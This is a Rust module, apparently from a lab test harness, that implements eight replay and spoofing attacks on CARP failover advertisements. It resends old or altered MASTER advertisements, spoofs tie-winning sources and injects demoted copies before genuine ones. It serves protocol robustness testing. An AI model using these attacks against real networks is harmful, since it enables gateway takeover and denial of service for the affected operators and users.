//! Attacks with recorded advertisements by an attacker without the password, one at a time.

use std::net::Ipv4Addr;
use std::thread;
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result};

use crate::attacker::{Attacker, Recording};
use crate::cable::{Cable, Quality};
use crate::inject::Injector;
use crate::lab::Host;

/// A source that wins every tie in a lab, because in raw addresses the last octet counts most.
pub const TIE_WINNER: Ipv4Addr = Ipv4Addr::new(10, 9, 1, 0);
/// A source that no other host has.
pub const STRANGER: Ipv4Addr = Ipv4Addr::new(10, 9, 0, 77);

/// How many advertisements of the MASTER must be recorded before an attack with old ones begins.
const RECORDED: usize = 45;
/// The most recent advertisements, which do not count as old.
const RECENT: usize = 40;
/// The delay of a genuine advertisement after its altered copy.
const LATE: Duration = Duration::from_millis(15);
/// The longest wait for recordings: [`RECORDED`] intervals of a second, on a busy machine.
const PATIENCE: Duration = Duration::from_secs(90);

/// One way to misuse recordings: one packet per interval to everybody, unless stated otherwise.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Old ones of the MASTER, with its own source, as 0/0.
    OwnAsBetter,
    /// The latest one of the MASTER, from another source, as 0/0.
    StrangerAsBetter,
    /// The same one every time, from another source, as 0/0, as an OpenBSD would.
    RepeatedAsBetter,
    /// A single one, from another source, as 0/0.
    OnceAsBetter,
    /// The latest one as it is, from a source that wins the tie.
    Tie,
    /// Old ones of the MASTER, with its source, as 255/255; three an interval.
    BowOut,
    /// Old ones with the MASTER's source, and the latest one from another source, with byte 4 raised.
    Demoted,
    /// Each one of the MASTER as 255/255, delivered to the BACKUP before the genuine one. Needs a cable.
    AlteredFirst,
}

/// The scene of an attack: a MASTER a and a BACKUP b.
pub struct Field<'a> {
    /// The attacker, on the same switch.
    pub attacker: &'a Attacker,
    /// The MASTER.
    pub master: &'a Host,
    /// The BACKUP.
    pub backup: &'a Host,
    /// The BACKUP's cable, for [`Attack::AlteredFirst`].
    pub cable: Option<&'a Cable>,
    /// The MASTER's advertisement interval.
    pub interval: Duration,
}

impl Attack {
    /// All attacks, in the order of the documentation.
    pub const ALL: [Self; 8] = [
        Self::OwnAsBetter,
        Self::StrangerAsBetter,
        Self::RepeatedAsBetter,
        Self::OnceAsBetter,
        Self::Tie,
        Self::BowOut,
        Self::Demoted,
        Self::AlteredFirst,
    ];

    /// The name in tables.
    #[must_use]
    pub const fn name(self) -> &'static str {
        match self {
            Self::OwnAsBetter => "the MASTER's own, more than 40 old, with its source, as 0/0",
            Self::StrangerAsBetter => "its latest from another source, as 0/0",
            Self::RepeatedAsBetter => "one from another source, as 0/0, again and again",
            Self::OnceAsBetter => "one from another source, as 0/0, once",
            Self::Tie => "its latest, unmodified, from a source that wins the tie",
            Self::BowOut => "old ones with its source, as 255/255, three an interval",
            Self::Demoted => "old ones with its source, byte 4 raised",
            Self::AlteredFirst => "a copy as 255/255, before each genuine one",
        }
    }

    /// Whether it needs the BACKUP's cable.
    #[must_use]
    pub const fn needs_cable(self) -> bool {
        matches!(self, Self::AlteredFirst)
    }

    /// Waits until there is enough to resend.
    ///
    /// # Errors
    /// When the MASTER does not advertise.
    pub fn prepare(self, field: &Field<'_>) -> Result<()> {
        let count = match self {
            Self::OwnAsBetter | Self::BowOut | Self::Demoted => RECORDED,
            Self::StrangerAsBetter
            | Self::RepeatedAsBetter
            | Self::OnceAsBetter
            | Self::Tie
            | Self::AlteredFirst => 2,
        };
        field
            .attacker
            .recorded(field.master.address(), count, PATIENCE)?;
        Ok(())
    }

    /// Attacks for the given number of the MASTER's intervals.
    ///
    /// # Errors
    /// When a packet cannot be sent.
    pub fn run(self, field: &Field<'_>, intervals: u32) -> Result<()> {
        let attacker = field.attacker;
        let interval = field.interval;
        let source = field.master.address();
        let old = |number: usize| -> Result<Recording> {
            let mut all = attacker.heard(source);
            all.truncate(all.len().saturating_sub(RECENT));
            let index = number % all.len().max(1);
            all.into_iter().nth(index).context("something old")
        };
        let latest =
            || -> Result<Recording> { attacker.heard(source).pop().context("something to resend") };
        let first = latest()?.from(STRANGER).shown(0, 0);
        match self {
            Self::OwnAsBetter => paced(interval, intervals, |number| {
                attacker.send(&old(number)?.shown(0, 0))
            }),
            Self::StrangerAsBetter => paced(interval, intervals, |_| {
                attacker.send(&latest()?.from(STRANGER).shown(0, 0))
            }),
            Self::RepeatedAsBetter => paced(interval, intervals, |_| attacker.send(&first)),
            Self::OnceAsBetter => {
                attacker.send(&first)?;
                paced(interval, intervals, |_| Ok(()))
            }
            Self::Tie => paced(interval, intervals, |_| {
                attacker.send(&latest()?.from(TIE_WINNER))
            }),
            Self::BowOut => paced(interval / 3, intervals * 3, |number| {
                attacker.send(&old(number)?.shown(255, 255))
            }),
            Self::Demoted => paced(interval / 3, intervals * 3, |number| {
                attacker.send(&old(number)?.demoted(1))?;
                attacker.send(&latest()?.from(STRANGER).demoted(255))
            }),
            Self::AlteredFirst => altered_first(field, intervals),
        }
    }
}

/// The cable to the BACKUP delays everything a little; the attacker sends what it hears past that cable at once.
fn altered_first(field: &Field<'_>, intervals: u32) -> Result<()> {
    let cable = field.cable.context("this attack needs a cable")?;
    let (towards, source) = (Injector::towards(field.backup)?, field.master.address());
    cable.to_host(Quality::Late(LATE));
    field.attacker.react(move |recording| {
        if recording.carp().source == source {
            // A host that is being removed is no longer attacked.
            let _ = towards.send(recording.clone().shown(255, 255).frame());
        }
    });
    thread::sleep(field.interval * intervals);
    field.attacker.calm_down();
    cable.to_host(Quality::Good);
    Ok(())
}

/// Acts at a steady pace.
fn paced(interval: Duration, times: u32, mut act: impl FnMut(usize) -> Result<()>) -> Result<()> {
    let begin = Instant::now();
    for number in 0..times {
        act(usize::try_from(number)?)?;
        let next = begin + interval * (number + 1);
        thread::sleep(next.saturating_duration_since(Instant::now()));
    }
    Ok(())
}
